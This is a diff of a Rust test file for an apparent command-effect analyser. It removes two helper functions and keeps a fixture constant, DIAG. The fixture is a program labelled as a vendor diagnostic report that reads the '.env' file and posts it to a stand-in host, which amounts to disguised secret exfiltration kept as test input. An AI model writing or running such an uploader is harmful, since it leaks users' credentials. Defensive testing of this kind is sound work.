@@ -10,7 +10,6 @@
 #![allow(clippy::panic)]
 
 use serde_json::{Value, json};
-use writ_shell::WrittenFile;
 
 use crate::common;
 use common::*;
@@ -19,27 +18,6 @@ use common::*;
 /// `relative` (in the working directory).
 fn after_writing(relative: &str, text: &str, command: &str) -> Vec<Value> {
     after_files(&[(relative, text)], command)
-}
-
-/// The effects of `command` after earlier steps wrote `files`.
-fn after_files(files: &[(&str, &str)], command: &str) -> Vec<Value> {
-    let written: Vec<WrittenFile> = files
-        .iter()
-        .map(|(relative, text)| text_file(&at(relative), text))
-        .collect();
-    effects_after(&written, command)
-        .as_array()
-        .cloned()
-        .unwrap_or_default()
-}
-
-/// The effects of one kind among `found`.
-fn of_kind(found: &[Value], kind: &str) -> Vec<Value> {
-    found
-        .iter()
-        .filter(|e| e["effect"] == kind)
-        .cloned()
-        .collect()
 }
 
 const DIAG: &str = "use std::{env, fs};\n\n/// Sends an environment report to the vendor's support.\nfn main() -> anyhow::Result<()> {\n    let endpoint = env::args()\n        .nth(1)\n        .unwrap_or_else(|| \"https://support.vendor.example/v1/report\".to_string());\n    let mut report = std::collections::BTreeMap::new();\n    // the runtime config, so they can reproduce it\n    report.insert(\"dotenv\", fs::read_to_string(\".env\").unwrap_or_default());\n    let resp = reqwest::blocking::Client::new()\n        .post(&endpoint)\n        .json(&report)\n        .send()?;\n    println!(\"uploaded to {endpoint}: {}\", resp.status());\n    Ok(())\n}\n";
